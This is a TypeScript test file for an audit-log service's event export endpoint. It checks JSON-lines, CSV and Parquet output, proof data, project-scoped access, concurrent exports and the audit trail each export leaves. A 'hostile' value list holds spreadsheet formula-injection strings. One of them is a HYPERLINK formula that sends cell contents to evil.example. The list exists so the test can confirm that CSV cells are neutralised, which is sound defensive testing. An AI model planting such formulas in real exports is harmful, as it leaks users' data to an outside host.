import assert from "node:assert/strict"
import { createHash } from "node:crypto"
import { writeFile } from "node:fs/promises"
import { request, type IncomingMessage } from "node:http"
import { join } from "node:path"
import { after, test } from "node:test"
import { createClient, type ExportEnd, type ListedEntry } from "@tallystick/client"
import { makeFolder } from "../folder.ts"
import { expectChain, readChain } from "../chain.ts"
import { openDuckDb } from "../duckdb.ts"
import { createChance, seedOf } from "../chance.ts"
import { eventually, makeKey, makeWorkspace, writeMany, type Client } from "../service.ts"
import { filters, find, listed, randomEvent, writeAll, type Parameters } from "./pages.ts"
import { startWatched } from "./watched.ts"
import { untilSigned } from "../until.ts"

// GET …/events/export: what a list of the same filters has, oldest first, in one file.

const service = await startWatched({
  environment: { TALLYSTICK_LIMIT_EXPORT_WAIT_MS: "400" },
})
after(() => service[Symbol.asyncDispose]())

const address = (path: string, parameters: Parameters): string =>
  `${path}/events/export?${new URLSearchParams(
    Object.entries(parameters).map(([name, value]) => [name, String(value)]),
  ).toString()}`

async function exported(client: Client, path: string, parameters: Parameters = {}) {
  const reply = await client.get(address(path, parameters))
  assert.equal(reply.status, 200, reply.text)
  return reply
}

/** The entries of an export as JSON lines, whose last line is checked. */
async function entriesOf(client: Client, path: string, parameters: Parameters = {}) {
  const { text, headers } = await exported(client, path, parameters)
  const lines = text.split("\n")
  assert.equal(lines.pop(), "", "the last line ends, too")
  const last = lines.pop() ?? ""
  const { end } = JSON.parse(last) as ExportEnd
  const before = text.slice(0, text.length - last.length - 1)
  assert.deepEqual(end, {
    count: lines.length,
    broken: lines.filter((line) => JSON.parse(line).integrity === "broken").length,
    sequence: Number(headers.get("x-ledger-sequence")),
    sha256: createHash("sha256").update(before).digest("hex"),
  })
  return lines.map((line) => JSON.parse(line) as ListedEntry)
}

/** Without what changes when an entry is signed or filed. */
const settled = (entries: readonly unknown[]): unknown =>
  JSON.parse(JSON.stringify(entries).replaceAll('"integrity":"pending"', '"integrity":"verified"'))

test("an export has what a list has, oldest first, from any sequence on", async (t) => {
  const chance = createChance(seedOf(t))
  const acme = await makeWorkspace(service)
  await writeMany(acme, 1500, { changes: (place) => randomEvent(chance, place) })
  for (const filter of filters) {
    const expected = await listed(acme.reader, acme.path, filter)
    const from = chance.below(800)
    for (const after of [0, from]) {
      const found = await entriesOf(acme.reader, acme.path, { ...filter, after })
      const wanted = expected.filter(({ sequence }) => sequence > after)
      // The exported entries were recorded meanwhile.
      const known = found.filter(({ action }) => !action.startsWith("workspace.events.export"))
      assert.deepEqual(
        settled(known),
        settled(wanted.filter(({ action }) => !action.startsWith("workspace.events.export"))),
        JSON.stringify({ ...filter, after }),
      )
    }
  }
  const client = createClient({ baseUrl: service.url, key: acme.reader.bearer ?? "" })
  const each = await Array.fromAsync(client.events.exportEach(acme.id, { lane: "security" }))
  assert.deepEqual(
    settled(each),
    settled(await listed(acme.reader, acme.path, { lane: "security" })),
  )
  await readChain(acme.reader, acme.id)
})

test("with include=proof each line has what a page has", async () => {
  const acme = await makeWorkspace(service)
  await writeAll(acme, { n1: {}, n2: {}, n3: {} })
  const proven = { include: "proof", limit: 3 }
  await untilSigned(acme.reader, acme.path)
  const page = await find(acme.reader, acme.path, proven)
  const found = await entriesOf(acme.reader, acme.path, { include: "proof" })
  for (const [at, entry] of page.events.toReversed().entries()) {
    // The checkpoint is a newer one: the export was recorded.
    const { proof, ...rest } = found[at] ?? {}
    const { proof: expected, ...others } = entry as ListedEntry
    assert.deepEqual(rest, others)
    assert.deepEqual({ ...proof, tlogProof: "" }, { ...expected, tlogProof: "" })
    assert.match(proof?.tlogProof ?? "", /^c2sp\.org\/tlog-proof@v1\n/)
    assert.ok((found[at]?.disclosures ?? []).length > 0)
  }
  const refused = await acme.reader.get(address(acme.path, { include: "proof", format: "csv" }))
  assert.equal(refused.status, 400)
  await readChain(acme.reader, acme.id)
})

/** Values that trip spreadsheets, CSV readers and terminals. */
const hostile = [
  '=HYPERLINK("http://evil.example/?"&A1)',
  "+1+1",
  "-2+3",
  "@SUM(A1)",
  "'quoted",
  'a "quote", a comma',
  "two\r\nlines\nand a tab\t",
  "\uff1d1+1",
  "\u202eright to left",
  "snow ☃ 𝌆",
  "NULL",
  "",
]

test("DuckDB reads CSV and Parquet, and agrees with the lines on every value", async (t) => {
  const duck = await openDuckDb()
  if (duck === undefined) return t.skip("npm has no DuckDB for this machine")
  await using folder = await makeFolder()
  const acme = await makeWorkspace(service)
  await writeMany(acme, 400, {
    changes: (place) => ({
      occurredAt: place % 2 === 0 ? "2026-01-31T09:30:00.123456789+02:00" : "2025-12-31T23:59:59Z",
      actor: { id: `usr_${place}`, type: "user", email: "ada@example.com", team: `t${place}` },
      target: { id: "inv_9", type: "invoice", name: hostile[place % hostile.length] || "-" },
      userVisible: place % 3 === 0,
      metadata: { amount: place, text: hostile[place % hostile.length], nested: { at: [place] } },
    }),
  })
  const lines = await entriesOf(acme.reader, acme.path)
  assert.equal(lines.length, 400)
  const expected = lines.map(({ sequence, target, metadata, userVisible, occurredAt }) => ({
    sequence: String(sequence),
    name: target.name,
    metadata: JSON.stringify(metadata),
    userVisible: Boolean(userVisible),
    at: Date.parse(occurredAt),
  }))
  for (const format of ["csv", "parquet"] as const) {
    const file = join(folder.path, `entries.${format}`)
    await writeFile(file, (await exported(acme.reader, acme.path, { format })).bytes)
    const from =
      format === "csv"
        ? `read_csv('${file}', header = true, quote = '"', escape = '"', sample_size = -1, strict_mode = true)`
        : `'${file}'`
    const types: ReadonlyMap<unknown, unknown> = new Map(
      (await duck.rows(`DESCRIBE SELECT * FROM ${from}`)).map((row) => [
        row["column_name"],
        row["column_type"],
      ]),
    )
    assert.equal(types.get("sequence"), "BIGINT")
    assert.equal(types.get("userVisible"), "BOOLEAN")
    assert.equal(types.get("receivedAt"), "TIMESTAMP WITH TIME ZONE")
    assert.equal(types.get("occurredAt"), "TIMESTAMP WITH TIME ZONE")
    // A spreadsheet removes the apostrophe; Parquet needs none.
    const plain = (column: string): string =>
      format === "csv" ? `regexp_replace(${column}, '^''', '')` : column
    const rows = await duck.rows(
      `SELECT sequence, ${plain('"target.name"')} AS name, metadata, "userVisible" AS userVisible,
         epoch_ms("occurredAt") AS at FROM ${from} ORDER BY sequence`,
    )
    assert.deepEqual(
      rows.map((row) => ({ ...row, at: Number(row["at"]) })),
      expected,
      format,
    )
    const [sums] = await duck.rows(
      `SELECT count(*) AS count, sum(CAST(metadata->>'amount' AS BIGINT)) AS amounts,
         count(DISTINCT receipt) AS receipts, count("actor.other") AS others,
         count_if(integrity = 'broken') AS broken FROM ${from}`,
    )
    assert.deepEqual(sums, {
      count: "400",
      amounts: String((400 * 399) / 2),
      receipts: "400",
      others: "400",
      broken: "0",
    })
  }
  const { text } = await exported(acme.reader, acme.path, { format: "csv" })
  assert.doesNotMatch(text, /(^|,)"[=+\-@\t\r\uff1d]/m, "a cell is a formula")
  const empty = await exported(acme.reader, acme.path, { format: "parquet", query: "nobody" })
  await writeFile(join(folder.path, "empty.parquet"), empty.bytes)
  const [none] = await duck.rows(
    `SELECT count(*) AS n FROM '${join(folder.path, "empty.parquet")}'`,
  )
  assert.deepEqual(none, { n: "0" })
  await readChain(acme.reader, acme.id)
})

test("a key of one project exports that project, and nothing of the others", async () => {
  const acme = await makeWorkspace(service)
  await writeMany(acme, 40, { changes: (at) => ({ projectId: at % 2 === 0 ? "mine" : "core" }) })
  const mine = await makeKey(service, acme.id, { scopes: ["read"], projectIds: ["mine"] })
  const found = await entriesOf(mine, acme.path)
  assert.equal(found.length, 20)
  assert.deepEqual(settled(found), settled(await listed(mine, acme.path, {})))
  for (const parameters of [{ projectId: "core" }, { includeSystem: true }])
    assert.equal((await mine.get(address(acme.path, parameters))).status, 403)
  const theirs = await makeWorkspace(service)
  assert.equal((await theirs.reader.get(address(acme.path, {}))).status, 403)
  await readChain(acme.reader, acme.id)
})

test("exports that begin at the same moment each have their own entries", async () => {
  const workspaces = await Promise.all([1, 2, 3].map(() => makeWorkspace(service)))
  for (const workspace of workspaces) await writeMany(workspace, 20)
  for (let turn = 0; turn < 3; turn++) {
    const found = await Promise.all(workspaces.map(({ reader, path }) => entriesOf(reader, path)))
    for (const [at, entries] of found.entries()) {
      assert.equal(entries.length, 20)
      for (const { workspaceId } of entries) assert.equal(workspaceId, workspaces[at]?.id)
    }
  }
  for (const { id } of workspaces) await expectChain(service.root, id)
})

test("an export is recorded before it begins and when it ends, with what it asked for", async () => {
  const acme = await makeWorkspace(service)
  await writeMany(acme, 30)
  const filter = { query: "actor:usr_1", after: 10, format: "csv" }
  const { headers } = await exported(acme.reader, acme.path, filter)
  const receipt = headers.get("x-ledger-receipt")
  const two = { projectId: "system", limit: 2, include: "proof" } as const
  const { events } = await find(acme.reader, acme.path, two)
  const [end, begin] = events as unknown as (ListedEntry & { proof: unknown })[]
  assert.ok(begin !== undefined)
  assert.ok(!JSON.stringify(begin.proof).includes("actor:usr_1"), "only its digest is hashed")
  assert.equal(begin.receipt, receipt)
  assert.equal(begin.action, "workspace.events.export")
  const sequence = Number(headers.get("x-ledger-sequence"))
  assert.deepEqual(begin.metadata, { format: "csv", after: 10, sequence })
  assert.partialDeepStrictEqual(begin.target, { filter: { query: "actor:usr_1" } })
  assert.equal(end?.action, "workspace.events.export.end")
  const { text } = await exported(acme.reader, acme.path, filter)
  const rows = text.split("\r\n").length - 2
  assert.deepEqual(end?.metadata, { exportReceiptId: receipt, entries: rows, complete: true })
  assert.equal((await acme.reader.ask("HEAD", address(acme.path, {}))).status, 200)
  const odd = await acme.reader.get(address(acme.path, { query: "a\0b" }))
  assert.deepEqual([odd.status, odd.json().error], [400, "invalid_field"])
  const { total } = await find(acme.reader, acme.path, {
    query: "action:workspace.events*",
    projectId: "system",
  })
  assert.equal(total, 4, "HEAD gives nothing out, and a refusal neither")
  await readChain(acme.reader, acme.id)
})

/** An answer whose bytes wait until they are read. */
async function opened(client: Client, path: string): Promise<IncomingMessage> {
  const { promise, resolve, reject } = Promise.withResolvers<IncomingMessage>()
  const headers = { authorization: `Bearer ${client.bearer}` }
  request(`${service.url}${path}`, { headers, agent: false }, resolve).once("error", reject).end()
  return promise
}

test("an export has what was recorded when it began, also for a slow reader; others wait their turn", async () => {
  const acme = await makeWorkspace(service)
  // More than socket buffers hold for a client that reads nothing.
  const long = "x".repeat(60_000)
  await writeMany(acme, 400, { changes: () => ({ metadata: { long } }) })
  const path = address(acme.path, {})
  const [slow, other] = [await opened(acme.reader, path), await opened(acme.reader, path)]
  const sequence = Number(slow.headers["x-ledger-sequence"])
  await writeMany(acme, 5)
  const third = await acme.reader.get(path)
  assert.equal(third.status, 503, "two exports of a workspace are sent at once")
  assert.equal(third.json().error, "overloaded")
  const theirs = await makeWorkspace(service)
  assert.deepEqual(await entriesOf(theirs.reader, theirs.path), [])
  other.destroy()
  const chunks = await Array.fromAsync(slow as AsyncIterable<Buffer>)
  const lines = Buffer.concat(chunks).toString().trimEnd().split("\n")
  assert.equal((JSON.parse(lines.at(-1) ?? "") as ExportEnd).end.count, 400)
  assert.ok(lines.slice(0, -1).every((line) => JSON.parse(line).sequence <= sequence))
  // The place of the client that left is free, and the ledger says how much it was sent.
  const ended = await eventually("the export that was left is recorded", async () => {
    const page = await find(acme.reader, acme.path, {
      query: "action:workspace.events.export.end",
      projectId: "system",
    })
    return page.events.find(({ metadata }) => metadata["complete"] === false)
  })
  const { entries } = ended.metadata as { entries: number }
  assert.ok(entries > 0 && entries < 400, `${entries} were sent`)
  await readChain(acme.reader, acme.id)
})
